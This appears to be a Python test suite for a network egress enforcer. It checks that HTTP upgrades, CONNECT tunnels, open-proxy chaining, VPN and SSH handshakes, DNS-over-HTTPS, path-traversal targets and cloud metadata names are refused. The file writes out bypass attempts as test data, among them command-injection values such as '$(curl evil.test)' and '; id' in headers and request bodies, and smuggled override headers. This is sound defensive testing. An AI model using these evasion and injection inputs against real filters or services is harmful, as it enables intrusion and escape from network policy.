"""Tunnels: what goes on inside something that is allowed, or beside it.

The lab: mitm.test is allowed for some requests, by TLS that ends here and by clear HTTP; ok.test passes through. Whether a WebSocket is
allowed is a rule of its own."""

import base64
import contextlib
import os
import re
import shutil
import urllib.parse

from lib import dns_client
from lib.datapath import gateway
from lib.expect import equal, refused_at_once
from lib.guest import exchange
from lib.lab import RULE, Lab, policy
from lib.oracles import ask, ask_clear, denies, is_refusal, live, refused_everywhere
from lib.origin import blob
from lib.processes import wait_for
from lib.runner import hang_guard
from lib.serving import Serving, read_head
from lib.tls_hello import client_hello, server_name
from lib.world import SECRET

MITM = (f"mitm.test {RULE}", f"mitm.test:80 {RULE}")
HOST = b"Host: mitm.test\r\n"
CLOSE = b"Connection: close"


def lab(*allow, **options):
    return Lab(policy(*(allow or MITM)), **options)


def get(target=b"/", *lines, method=b"GET", host=b"mitm.test"):
    return method + b" " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + b"".join(line + b"\r\n" for line in lines) + b"\r\n"


def targets(made):
    return [e["target"] for e in made.world.events(event="request")]


@hang_guard(150)
def test_136_upgrades_and_tunnels_inside_http():
    def upgrade(protocol, *lines, connection=b"Upgrade", method=b"GET", target=b"/"):
        return get(target, b"Connection: " + connection, b"Upgrade: " + protocol, *lines, method=method)
    udp = b"/.well-known/masque/udp/93.184.216.42/443/"
    tunnels = [upgrade(b"TLS/1.0"), upgrade(b"TLS/1.2, HTTP/1.1"), upgrade(b"foo"), upgrade(b"foo/1, bar"), upgrade(b"SSH-2.0"),
               upgrade(b"h2c, foo"), upgrade(b"h2c", b"Upgrade: foo"),
               upgrade(b"connect-udp", b"Capsule-Protocol: ?1", target=udp), upgrade(b"connect-ip", b"Capsule-Protocol: ?1", target=udp),
               upgrade(b"foo", method=b"POST", connection=b"keep-alive, upgrade"), upgrade(b"foo", connection=b"UPGRADE"),
               get(b"/", b"Upgrade: foo"), get(b"/", b"Connection: upgrade"),
               upgrade(b"foo", b"Upgrade: websocket"), upgrade(b""), get(b"mitm.test:443", method=b"CONNECT", host=b"mitm.test:443"),
               get(b"mitm.test:80", method=b"CONNECT", host=b"mitm.test:80"),
               get(b"evil.test:443", method=b"CONNECT", host=b"evil.test:443")]
    with lab() as made:
        made.guest.trust_enforcer()
        refused_everywhere(made, tunnels, "upgrade")
        # What a client sends at once, taking the tunnel for granted, is nobody's: not of an origin, not of ours.
        for tunnel in (tunnels[0], tunnels[-3]):
            for way in (ask, ask_clear):
                with denies(made, "upgrade"):
                    data, how = way(made, tunnel + client_hello(server_name("evil.test")) + get(b"/inside"))
                equal(data.count(b"HTTP/1.1"), 1, (way.__name__, data, how))
        made.wire_silent()
        live(made)
        equal(targets(made), ["/"])


class OpenProxy(Serving):
    """Goes wherever it is asked to, from the world; for itself it says so."""

    def __init__(self, made, address, port):
        self.made, self.asked = made, []
        super().__init__(made.world.netns, address, port)

    def serve(self, client):
        head = read_head(client)
        method, target = head.split(b" ")[:2]
        self.asked.append((method, target))
        if method != b"CONNECT" and not target.startswith(b"http://"):
            client.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 8\r\n\r\na proxy\n")
            return
        host, _, port = target.removeprefix(b"http://").split(b"/")[0].decode().partition(":")
        with self.made.world.netns.socket() as far:
            far.settimeout(5)
            far.connect((self.made.world.records[host][0], int(port or 80)))
            if method == b"CONNECT":
                client.sendall(b"HTTP/1.1 200 Connected\r\n\r\n")
                far.sendall(client.recv(1 << 16))
            else:
                far.sendall(head.replace(b"http://" + host.encode(), b"", 1).replace(b"\r\n", b"\r\nConnection: close\r\n", 1))
            with contextlib.suppress(TimeoutError):
                while data := far.recv(1 << 16):
                    client.sendall(data)


@hang_guard(120)
def test_137_allowed_host_that_is_a_proxy():
    """It is asked for what the rule is about, and for nothing on its way to others."""
    place = "93.184.216.40"
    with lab(f"mitm.test:3128 {RULE}", *MITM) as made, OpenProxy(made, place, 3128) as proxy:
        made.guest.trust_enforcer()
        control = made.host.run(["curl", "-sS", "--max-time", "10", "-x", f"http://{place}:3128", "http://evil.test/"])
        equal(control.stdout, "hello from evil.test\n", f"the control: it is an open proxy: {control.stderr}")
        equal(made.guest.curl("http://mitm.test:3128/").body, b"a proxy\n", "the control: and it is reached")
        before = list(proxy.asked)
        wait_for(lambda: not made.enforcer.metric("enforcer_connections_active"), what="the end of both")
        made.world.witness.silence()
        through = ["-x", "http://mitm.test:3128"]
        for options, url, reason in ((through, "http://evil.test/", "authority_mismatch"),
                                     (through, "http://ok.test/", "authority_mismatch"),
                                     (through, "https://evil.test/", "upgrade"), ([*through, "-p"], "http://evil.test/", "upgrade"),
                                     (["-x", "socks5h://mitm.test:3128"], "http://evil.test/", "proto_unknown"),
                                     (["-x", "socks4a://mitm.test:3128"], "http://evil.test/", "proto_unknown")):
            with denies(made, reason):
                reply = made.guest.curl(url, "--noproxy", "", *options)
            assert b"hello" not in reply.body, (options, url, reply.talk)
        port = b"mitm.test:3128"
        for request, reason in ((get(b"http://evil.test/", CLOSE, host=b"evil.test"), "authority_mismatch"),
                                (get(b"http://evil.test/", CLOSE, host=port), "authority_mismatch"),
                                (get(b"/", CLOSE, host=b"evil.test"), "authority_mismatch"),
                                (get(b"evil.test:443", host=port, method=b"CONNECT"), "authority_mismatch"),
                                (get(b"evil.test:443", host=b"evil.test:443", method=b"CONNECT"), "upgrade")):
            with made.guest.connect("mitm.test", 3128) as client, denies(made, reason):
                answer, _ = exchange(client, request)
            assert is_refusal(answer), (request, answer)
        made.wire_silent()
        equal(proxy.asked, before, "what it was asked for")
        shown = [r for r in made.enforcer.records(type="decision", decision="deny") if r.get("port") == 3128]
        assert len(shown) >= 10 and all(r["host"] == "mitm.test" for r in shown), shown
        with made.guest.connect("mitm.test", 3128) as client:  # its own name in absolute form is no way to somebody else
            assert exchange(client, get(b"http://mitm.test:3128/", CLOSE, host=port))[0].startswith(b"HTTP/1.1 200")
        equal(proxy.asked[-1], (b"GET", b"/"))
        live(made)


class Relay(Serving):
    """In the guest: takes requests in clear and makes them again, in another order and spelling, on one connection that is kept."""

    def __init__(self, made):
        self.made, self.kept = made, None
        super().__init__(made.guest.netns, "127.0.0.1", 0)

    def serve(self, client):
        while True:
            line, *fields = read_head(client)[:-4].split(b"\r\n")
            named = [field.split(b":", 1) for field in reversed(fields)]
            again = [b"Via: 1.1 relay", *[name.swapcase() + b": \t" + value for name, value in named]]
            request = b"\r\n".join([line, *again]) + b"\r\n\r\n"
            if self.kept is None:
                self.kept = self.made.guest.tls("mitm.test")
            self.kept.sendall(request)
            answer = read_head(self.kept)
            size = int(re.search(rb"(?i)content-length: (\d+)", answer).group(1)) if b"HEAD" not in line else 0
            while size:
                data = self.kept.recv(size)
                answer, size = answer + data, size - len(data)
            if b"connection: close" in answer.lower():
                self.kept.close()
                self.kept = None
            client.sendall(answer)
            if self.kept is None:
                return


def verdict(answer):
    """(status, reason) of one response."""
    reason = re.search(rb'"reason":"([a-z0-9_]+)"', answer)
    return int(answer.split(b" ")[1]), reason.group(1).decode() if reason else ""


@hang_guard(150)
def test_138_same_request_by_way_of_a_relay_in_the_guest():
    rule = ('mitm.test http: [{methods: [GET, HEAD], paths: ["/public/**"]}, '
            '{methods: [POST], paths: ["/form"], headers: {X-Role: "user"}}]')
    table = {(b"GET", b"/public/a"): (200, ""), (b"GET", b"/admin"): (403, "request"), (b"DELETE", b"/public/a"): (403, "request"),
             (b"GET", b"/public/../admin"): (403, "request"), (b"GET", b"/public/%2e%2e/admin"): (403, "request"),
             (b"POST", b"/form"): (403, "request"), (b"GET", b"/public/\\admin"): (400, "h1_malformed"),
             (b"GET", b"http://evil.test/public/a"): (421, "authority_mismatch")}
    # One worker: another one would not know yet that the origin speaks HTTP/1 alone, and curl would speak HTTP/2 with it.
    with lab(rule, config={"workers": 1}) as made, Relay(made) as relay:
        made.guest.trust_enforcer()

        def by_curl(method, target, *options):
            """A client of its own, as another user of the guest."""
            argv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "curl", "-sS", "-i", "--cacert", made.guest._certificate,
                    "-X", method.decode(), "--path-as-is", "--request-target", target.decode(), *options, "https://mitm.test/"]
            return made.guest.run(argv, text=False).stdout

        def relayed(method, target, *fields):
            with made.guest.socket() as client:
                client.connect(relay.place)
                client.sendall(get(target, *fields, method=method))
                head = read_head(client)
                return head + client.recv(1 << 16)
        ways = {"a connection of its own": lambda m, t: ask(made, get(t, CLOSE, method=m))[0], "curl": by_curl,
                "curl, other fields": lambda m, t: by_curl(m, t, "-A", "relay/1", "-H", "X-Forwarded-Proto: http", "-H", "Accept:"),
                "HTTP/1.0": lambda m, t: ask(made, get(t, method=m).replace(b"HTTP/1.1", b"HTTP/1.0"))[0], "the relay": relayed,
                "the relay, with more": lambda m, t: relayed(m, t, b"X-Original-URL: /public/a", b"X-HTTP-Method-Override: GET")}
        for (method, target), expected in table.items():
            for what, way in ways.items():
                equal(verdict(way(method, target)), expected, f"{method} {target} by {what}")
        for fields, status in (((b"X-Role: user",), 200), ((b"X-Role: admin",), 403), ((b"X-Role: user", b"X-Role: admin"), 403)):
            fields += (b"Content-Length: 0",)
            equal(verdict(ask(made, get(b"/form", CLOSE, *fields, method=b"POST"))[0])[0], status, f"{fields} on a connection of its own")
            equal(verdict(relayed(b"POST", b"/form", *fields))[0], status, f"{fields} by the relay")
        assert set(targets(made)) == {"/public/a", "/form"}, targets(made)
        equal(made.guest.curl("https://mitm.test/public/").status, 200)


def children(pid):
    with open(f"/proc/{pid}/task/{pid}/children") as file:
        return [int(word) for word in file.read().split()]


def owners(namespace):
    """The processes that have a socket of the Internet's in a namespace; how many sockets there are."""
    shown = namespace.run(["ss", "-Hatunwp"], check=True).stdout.splitlines()
    return {int(pid) for pid in re.findall(r"pid=(\d+)", "\n".join(shown))}, len(shown)


HELPER = """#!/bin/sh
{ for word in "$0" "$@"; do echo "word $word"; done; env; echo "input $(cat)"; echo end; } >> CALLS
echo SECRET
"""


def called(made):
    """What the command was given, each time it ran."""
    with open(f"{made.folder}/calls", errors="replace") as file:
        return file.read().split("end\n")[:-1]


@hang_guard(150)
def test_139_our_own_programs_on_the_host_as_a_way_out():
    """Of what runs on the host only enforcerd has sockets, and it dials what was decided on. A command that gets a secret is the only
    program that a guest can cause to run, and nothing that the guest says reaches it."""
    with lab(*MITM, f"cred.test {RULE}, credential: token", start=False) as made:
        script, calls = f"{made.folder}/command", f"{made.folder}/calls"
        for path, text, mode in ((script, HELPER.replace("CALLS", calls).replace("SECRET", SECRET), 0o755), (calls, "", 0o666)):
            with open(path, "w") as file:
                file.write(text)
            os.chmod(path, mode)
        made.enforcer.write_credential("token", [{"to": ["cred.test"], "as": "bearer"}], {"exec": [script, "always", "the same"]})
        made.enforcer.start()
        made.attach("g1")
        made.guest.trust_enforcer()
        live(made)

        hosts_own = [made.enforcer.hostd.pid, *children(made.enforcer.hostd.pid), *children(made.enforcer.enforcerd.pid)]
        assert len(hosts_own) >= 2, "hostd and the helper"
        for namespace in (made.host, gateway(made)):
            pids, count = owners(namespace)
            assert count > 1, "the control: there are sockets"
            equal(pids, {made.enforcer.enforcerd.pid}, f"who has sockets in {namespace.name}")

        for name in ("host.docker.internal", "gateway.docker.internal", "host.containers.internal", "gateway.internal", "enforcer",
                     "enforcer.internal", "metadata.google.internal", "instance-data", "wpad", "localhost.localdomain"):
            equal(made.guest.query(name).rcode, "NXDOMAIN", name)
        for address in (made.guest.gateway, made.guest.gateway_ipv6):
            for port in (1, 22, 80, 443, 2375, 3128, 4317, 5000, 8000, 8080, 8443, 9100, 9418, 9464, 9901, 10250):
                refused_at_once(made.guest, address, port)
        made.world.witness.silence()
        marks = ["https://no.test/open?url=https://evil.test/", "/git-credential/fill", "$(curl evil.test)", "; id"]
        before = len(called(made))
        for mark in marks:
            reply = made.guest.curl("https://cred.test/", "-H", f"X-Open-Url: {mark}", "-H", f"X-Git: protocol=https host=evil.test {mark}",
                                    "-A", mark, "--request-target", "/open?url=" + urllib.parse.quote(mark, safe=""),
                                    "-d", f"protocol=https\nhost=no.test\npath={mark}\n")
            equal(reply.status, 200, mark)
            made.enforcer.ctl_ok("reload")  # a value that is kept is asked for again
        given = called(made)
        assert len(given) > before, f"{len(given)} calls, {before} of them before"
        for call in given:
            words = [line for line in call.splitlines() if line.startswith("word ")]
            equal(words, [f"word {script}", "word always", "word the same"])
            assert "input \n" in call and "evil" not in call and "no.test" not in call and "git" not in call, call
        dialled = {packet.destination for packet in made.world.witness.packets() if packet.is_syn}
        equal(dialled, {"93.184.216.41"}, "where connections went")
        live(made)


VPNS = {
    "SSH": b"SSH-2.0-OpenSSH_9.2\r\n", "OpenVPN": b"\0\x0e\x38" + bytes(range(8)) + bytes(5),
    "OpenVPN with a static key": b"\0\x2a" + bytes(range(1, 43)), "WireGuard in TCP": b"\0\x94\1\0\0\0" + bytes(range(144)),
    "tinc": b"0 node 17.7\n", "Tor with no TLS": b"\0\0\x07\0\2\0\3", "IRC": b"NICK x\r\nUSER x 0 * :x\r\n",
}


@hang_guard(150)
def test_140_other_protocols_in_what_is_allowed():
    """Whatever is not HTTP ends where requests are looked at; what is HTTP is decided on by request, DNS over HTTPS like any other."""
    rule = 'mitm.test http: [{methods: [GET, POST], paths: ["/api/**", "/events/*"]}]'
    with lab("ok.test", rule) as made:
        made.guest.trust_enforcer()
        for what, data in VPNS.items():
            for host in ("ok.test", "mitm.test"):
                with made.guest.connect(host, 443) as client, denies(made, "proto_unknown"):
                    equal(exchange(client, data), (b"", "reset"), f"{what} to {host}")
            with made.guest.tls("mitm.test") as client, denies(made, "h1_malformed"):
                answer, _ = exchange(client, data + b"\r\n\r\n")
            assert not answer or is_refusal(answer), (what, answer)
        if ssh := shutil.which("ssh"):
            with denies(made, "proto_unknown"):
                done = made.guest.run([ssh, "-p", "443", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                                       "-o", "ConnectTimeout=10", "-o", "BatchMode=yes", "-F", "/dev/null",
                                       f"root@{made.guest.resolve('ok.test')}"])
            equal(done.returncode, 255, done.stderr)
        for data, reason in ((b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "h1_malformed"),
                             (get(b"/CSCOSSLC/tunnel", host=b"mitm.test", method=b"CONNECT"), "h1_malformed"),
                             (get(b"/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/", method=b"SSTP_DUPLEX_POST"), "h1_malformed")):
            with denies(made, reason):
                answer, _ = ask(made, data)
            assert not answer or is_refusal(answer), answer
        query = dns_client.query_bytes("evil.test")
        sized = (b"Content-Length: %d" % len(query), CLOSE)
        text = base64.urlsafe_b64encode(query).rstrip(b"=")
        for request in (get(b"/dns-query?dns=" + text, b"Accept: application/dns-message", CLOSE),
                        get(b"/dns-query", b"Content-Type: application/dns-message", *sized, method=b"POST") + query,
                        get(b"/resolve?name=evil.test", CLOSE),
                        get(b"/grpc.Tunnel/Open", b"Content-Type: application/grpc", b"TE: trailers", CLOSE, method=b"POST")):
            with denies(made, "request"):
                answer, _ = ask(made, request)
            assert is_refusal(answer), answer
        for name in ("dns.google", "cloudflare-dns.com", "use-application-dns.net", "mask.icloud.com", "_dns.resolver.arpa"):
            equal(made.guest.query(name).rcode, "NXDOMAIN", name)
        for port in (853, 22, 1194, 51820):
            with denies(made, "port"):
                refused_at_once(made.guest, made.guest.resolve("ok.test"), port)
        made.wire_silent()
        answer, _ = ask(made, get(b"/api/x", b"Content-Type: application/dns-message", *sized, method=b"POST") + query)
        assert answer.startswith(b"HTTP/1.1 200"), "the control: what a rule allows"
        # A stream of events is a response like any other: it comes as it is sent, is counted, and ends with its rule.
        with made.guest.tls("mitm.test") as client:
            client.sendall(get(b"/events/300"))
            received = b""
            while b"data: 3" not in received:
                received += client.recv(1 << 16)
            assert b"data: 200" not in received, "events that had not been sent yet"
            made.enforcer.write_policy(policy("ok.test"))
            made.enforcer.ctl_ok("reload")
            exchange(client, b"")
        end = made.enforcer.wait_record(type="end", layer="http", outcome="policy_changed")
        assert end["bytes_down"] > 0, end
        made.guest.trust(made.world.authority)
        live(made, "https://ok.test/")


@hang_guard(120)
def test_140_upload_that_nobody_can_look_into_is_limited():
    """`uploadBytesPerHour`: what passes through unseen goes on for so many bytes and no more, and so does what is seen."""
    cap, much = 4 << 20, 32 << 20
    with lab("ok.test", f"mitm.test {RULE}", guests=("g1", "g2", "g3"), config={"limits": {"uploadBytesPerHour": cap}}) as made:
        for guest in made.guests.values():
            guest.trust(made.world.authority)
        live(made, "https://ok.test/")
        upload = f"{made.folder}/upload"
        with open(upload, "wb") as file:
            file.write(blob(much))
        for name, layer, url, statuses in (("g1", "tls", "https://ok.test/", (0,)), ("g3", "http", "https://mitm.test/", (0, 429))):
            guest = made.guests[name]
            if layer == "http":
                guest.trust_enforcer()
            for _ in range(2):  # once it is spent, so that the next one does not get far either
                with denies(made, "limit_bytes"):
                    reply = guest.curl(url, "-T", upload)
                assert reply.exit_code != 0 or reply.status == 429, reply.talk
                assert reply.status in statuses, reply.talk  # the reset may overtake the answer
            denied = made.enforcer.wait_record(type="decision", decision="deny", reason="limit_bytes", guest=name)
            equal(denied["layer"], layer)
            end = made.enforcer.wait_record(type="end", reason="limit_bytes", guest=name)
            equal(end["outcome"], "denied")
            sent = sum(end["bytes_up"] for end in made.enforcer.records(type="end", guest=name))
            assert sent < 2 * cap, f"{sent} bytes went up although {cap} are allowed an hour"
        equal(made.guests["g2"].curl("https://ok.test/").status, 200, "another guest's limit is its own")
